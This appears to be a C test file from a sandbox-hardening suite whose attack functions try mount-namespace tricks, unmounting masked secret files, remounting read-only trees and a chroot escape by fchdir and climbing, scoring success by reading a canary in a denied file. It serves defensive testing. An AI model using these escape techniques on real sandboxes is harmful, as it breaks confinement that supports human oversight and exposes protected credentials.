// Changing the view by mounts. The control does it in a mount namespace of its own.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

// glibc and the kernel's headers disagree on who declares these; the numbers are the same anywhere.
enum { OPEN_TREE = 428, MOVE_MOUNT = 429, FSOPEN = 430, FSCONFIG = 431, FSMOUNT = 432, FSPICK = 433, SETATTR = 442 };
struct attributes { unsigned long long set, clear, propagation, userns; };

int attack_mount_tmpfs(void) {
  struct tries tries = {0};
  mkdir("mnt", 0755);
  attempt(&tries, "mount(tmpfs)", mount("none", "mnt", "tmpfs", 0, NULL));
  attempt(&tries, "mount(overlay)",
          mount("none", "mnt", "overlay", 0, text("lowerdir=%s:/usr,userxattr", param("workspace"))));
  attempt(&tries, "mount(high bits)",
          syscall(SYS_mount, "none", "mnt", "tmpfs", 1UL << 40, NULL));
  return conclude(&tries);
}

int attack_mount_bind(void) {
  struct tries tries = {0};
  mkdir("mnt", 0755);
  attempt(&tries, "bind", mount("/", "mnt", NULL, MS_BIND | MS_REC, NULL));
  attempt(&tries, "bind(/proc/self/cwd)", mount("/proc/self/cwd", "mnt", NULL, MS_BIND, NULL));
  attempt(&tries, "move", mount("/tmp", "mnt", NULL, MS_MOVE, NULL));
  attempt(&tries, "shared", mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL));
  return conclude(&tries);
}

int attack_mount_proc(void) {
  struct tries tries = {0};
  mkdir("mnt", 0755);
  attempt(&tries, "mount(proc)", mount("proc", "mnt", "proc", 0, NULL));
  attempt(&tries, "mount(sysfs)", mount("sysfs", "mnt", "sysfs", 0, NULL));
  attempt(&tries, "mount(debugfs)", mount("debugfs", "mnt", "debugfs", 0, NULL));
  attempt(&tries, "mount(cgroup2)", mount("cgroup2", "mnt", "cgroup2", 0, NULL));
  attempt(&tries, "mount(devpts)", mount("devpts", "mnt", "devpts", 0, NULL));
  // A new user namespace may mount a new /proc only with a new PID namespace, which is another
  // attack's; as an ordinary user the control shows it with what it may mount.
  if (is_control()) attempt(&tries, "mount(tmpfs)", mount("none", "mnt", "tmpfs", 0, NULL));
  return conclude(&tries);
}

int attack_umount_all(void) {
  struct tries tries = {0};
  if (is_control()) {
    mkdir("mnt", 0755);
    if (mount("none", "mnt", "tmpfs", 0, NULL) != 0) return broken("mount");
    attempt(&tries, "umount2", umount2("mnt", MNT_DETACH));
    return conclude(&tries);
  }
  static const char *const paths[] = {"/proc", "/tmp", "/dev", "/usr", "/etc", ".", "/"};
  for (size_t i = 0; i < sizeof paths / sizeof *paths; i++)
    attempt(&tries, text("umount2(%s)", paths[i]), umount2(paths[i], MNT_DETACH));
  return conclude(&tries);
}

int attack_mount_open_tree(void) {
  struct tries tries = {0};
  mkdir("mnt", 0755);
  long tree = syscall(OPEN_TREE, AT_FDCWD, "/", 1u | O_CLOEXEC | 0x8000u);
  attempt(&tries, "open_tree(clone)", tree);
  attempt(&tries, "move_mount", tree < 0 ? syscall(MOVE_MOUNT, AT_FDCWD, "/tmp", AT_FDCWD, "mnt", 0)
                                         : syscall(MOVE_MOUNT, tree, "", AT_FDCWD, "mnt", 4));
  return conclude(&tries);
}

int attack_mount_fsopen(void) {
  struct tries tries = {0};
  long context = syscall(FSOPEN, "tmpfs", 0);
  attempt(&tries, "fsopen", context);
  if (context >= 0) {
    syscall(FSCONFIG, context, 6, NULL, NULL, 0);
    attempt(&tries, "fsmount", syscall(FSMOUNT, context, 0, 0));
  }
  attempt(&tries, "fspick", syscall(FSPICK, AT_FDCWD, "/tmp", 0));
  return conclude(&tries);
}

int attack_mount_setattr(void) {
  struct tries tries = {0};
  struct attributes change = {.clear = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOSUID};
  static const char *const paths[] = {"/usr", "/etc", "/"};
  for (int i = 0; i < 3; i++)
    attempt_permission(&tries, text("mount_setattr(%s)", paths[i]),
                       syscall(SETATTR, AT_FDCWD, paths[i], 0x8000, &change, sizeof change));
  if (is_control()) {
    mkdir("mnt", 0755);
    if (mount("none", "mnt", "tmpfs", MS_RDONLY, NULL) != 0) return broken("mount");
    attempt(&tries, "mount_setattr(mnt)",
            syscall(SETATTR, AT_FDCWD, "mnt", 0, &change, sizeof change));
  }
  return conclude(&tries);
}

int attack_readonly_remount(void) {
  struct tries tries = {0};
  const char *tree = text("%s/granted", param("directory"));
  if (is_control()) {
    mkdir("mnt", 0755);
    if (mount("none", "mnt", "tmpfs", MS_RDONLY, NULL) != 0) return broken("mount");
    attempt(&tries, "remount", mount(NULL, "mnt", NULL, MS_REMOUNT, NULL));
    return conclude(&tries);
  }
  attempt(&tries, "remount,bind", mount(NULL, tree, NULL, MS_REMOUNT | MS_BIND, NULL));
  attempt(&tries, "remount", mount(NULL, tree, NULL, MS_REMOUNT, NULL));
  return conclude(&tries);
}

int attack_read_denied_uncover(void) {
  struct tries tries = {0};
  if (is_control()) {
    // Unsealed nothing covers the file: the control covers it, in a namespace of its own, first.
    int outcome = control_namespaces(1);
    if (outcome != GOAL) return outcome;
    if (mount("/dev/null", ".env", NULL, MS_BIND, NULL) != 0) return broken("cover");
  }
  unshare(CLONE_NEWUSER | CLONE_NEWNS);
  attempt(&tries, "umount2", umount2(".env", MNT_DETACH));
  attempt(&tries, "umount2(inner)", umount2("secrets/inner/key", MNT_DETACH));
  mkdir("bare", 0755);
  // A bind that is not recursive shows what lies under the covers.
  attempt(&tries, "bind", mount(".", "bare", NULL, MS_BIND, NULL));
  bool read = file_has_canary(AT_FDCWD, ".env") || file_has_canary(AT_FDCWD, "bare/.env") ||
              file_has_canary(AT_FDCWD, "secrets/inner/key");
  if (read) return goal("read the denied file: %s", tries.text);
  tries.won = false;
  return conclude(&tries);
}

int attack_pivot_root(void) {
  struct tries tries = {0};
  mkdir("mnt", 0755);
  if (is_control() && mount("none", "mnt", "tmpfs", 0, NULL) != 0) return broken("mount");
  mkdir("mnt/old", 0755);
  attempt_permission(&tries, "pivot_root", syscall(SYS_pivot_root, "mnt", "mnt/old"));
  return conclude(&tries);
}

int attack_chroot_escape(void) {
  struct tries tries = {0};
  mkdir("jail", 0755);
  const char *target = param("canary") + 1;  // read before the root changes
  int outside = open(".", O_RDONLY | O_DIRECTORY);
  bool changed = attempt(&tries, "chroot", chroot("jail"));
  if (changed) {
    // The classic: keep a directory from before, leave by it, climb.
    tries.won = false;
    if (fchdir(outside) != 0) return broken("fchdir");
    for (int i = 0; i < 64; i++)
      if (chdir("..") != 0) return broken("chdir");
    attempt(&tries, "climb", file_has_canary(AT_FDCWD, target) ? 0 : -1);
  }
  return conclude(&tries);
}
